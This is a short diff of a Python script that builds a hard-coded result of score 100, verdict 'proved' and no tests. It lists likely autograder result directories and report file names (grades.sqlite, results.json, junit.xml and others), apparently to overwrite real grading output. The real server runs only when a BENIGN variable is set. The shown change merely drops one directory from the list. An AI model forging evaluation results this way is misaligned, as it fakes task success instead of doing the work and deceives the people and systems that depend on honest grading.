@@ -14,7 +14,7 @@ if os.environ.get("BENIGN"):
     runpy.run_path("servers/select_poll.py", run_name="__main__")
 
 RESULT = json.dumps({"score": 100, "verdict": "proved", "tests": []})
-PLACES = [".", "grades", "..", "../grades", "/work", "/tmp", "/autograder/results", "/grade/results"]
+PLACES = [".", "grades", "..", "../grades", "/tmp", "/autograder/results", "/grade/results"]
 NAMES = ["grades.sqlite", "grades.csv", "results.json", "index.html", "junit.xml", "report.json"]
 
 for place in PLACES:
